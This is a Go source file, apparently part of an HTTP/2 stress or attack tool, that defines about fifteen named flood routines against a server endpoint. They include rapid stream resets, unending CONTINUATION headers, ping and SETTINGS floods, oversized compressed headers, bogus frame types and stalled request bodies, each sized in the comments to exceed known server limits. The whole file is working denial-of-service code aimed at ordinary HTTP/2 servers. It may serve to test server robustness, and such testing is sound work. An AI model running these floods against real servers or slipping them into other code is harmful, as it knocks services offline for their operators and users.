package attack

import (
	"bytes"
	"slices"
	"strings"

	"golang.org/x/net/http2"
)

// How many frames or requests a flood has. net/http allows 10,000 frames on a connection that need an answer. Servers
// allow some hundreds of requests.
const (
	frames   = 11_000
	requests = 1_500
)

// Floods returns the floods by description. path must take a POST with a body of kind.
func Floods(path, kind string) map[string]Flood {
	post := func(c *Client, more ...string) []byte {
		return c.Block("POST", path, append([]string{"content-type", kind, "te", "trailers"}, more...)...)
	}
	again := slices.Repeat([]string{"x", strings.Repeat("x", 3<<10)}, 200)
	return map[string]Flood{
		"streams that are reset at once": many(requests, func(c *Client, i uint32) {
			c.Begin(2*i+1, post(c))
			_ = c.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
		}),
		"streams that are reset by a fault of theirs": many(requests, func(c *Client, i uint32) {
			c.Begin(2*i+1, post(c))
			_ = c.WriteWindowUpdate(2*i+1, 1<<31-1) // together with its present size, beyond the largest window
			_ = c.WriteWindowUpdate(2*i+1, 1<<31-1)
		}),
		"more streams than there may be": many(requests, func(c *Client, i uint32) { c.Begin(2*i+1, post(c)) }),
		"streams with long headers": many(requests/10, func(c *Client, i uint32) {
			c.Begin(2*i+1, post(c, "x", strings.Repeat("\x7f", 3<<10))) // which packing makes longer
		}),
		"headers that continue without end": func(c *Client) error {
			_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: post(c)})
			return many(requests, func(c *Client, i uint32) {
				_ = c.WriteContinuation(1, false, c.Block("POST", path, "x", strings.Repeat("x", 4<<10)))
			})(c)
		},
		"headers that continue with nothing": func(c *Client) error {
			_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: post(c)})
			return many(frames, func(c *Client, _ uint32) { _ = c.WriteContinuation(1, false, nil) })(c)
		},
		"headers that name a long one again": many(requests/10, func(c *Client, i uint32) {
			c.Begin(2*i+1, post(c, again...))
		}),
		"pings": many(frames, func(c *Client, i uint32) { _ = c.WritePing(false, [8]byte{byte(i)}) }),
		"settings": many(frames, func(c *Client, i uint32) {
			_ = c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1<<14 + i})
		}),
		"priorities of streams that are idle": many(frames, func(c *Client, i uint32) {
			_ = c.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 3})
		}),
		"frames of no known type": many(frames, func(c *Client, _ uint32) {
			_ = c.WriteRawFrame(0xfa, 0, 0, make([]byte, 100))
		}),
		"empty data": func(c *Client) error {
			c.Begin(1, post(c))
			return many(frames, func(c *Client, _ uint32) { _ = c.WriteData(1, false, nil) })(c)
		},
		"bodies that do not end": func(c *Client) error {
			return many(100, func(c *Client, i uint32) {
				c.Begin(2*i+1, post(c))
				_ = c.WriteData(2*i+1, false, bytes.Repeat([]byte{' '}, 15<<10))
			})(c)
		},
		"a frame that is announced": func(c *Client) error {
			_, err := c.out.Write([]byte{0x0f, 0xff, 0xff, byte(http2.FrameData), 0, 0, 0, 0, 1}) // 1 MiB - 1
			return err
		},
		"a frame of one byte, and no more": func(c *Client) error { return c.out.WriteByte(0) },
	}
}

// many calls send n times, and flushes some frames together.
func many(n uint32, send func(c *Client, i uint32)) Flood {
	return func(c *Client) error {
		for i := range n {
			send(c, i)
			if c.out.Buffered() > 8<<10 {
				if err := c.Flush(); err != nil {
					return err
				}
			}
		}
		return nil
	}
}
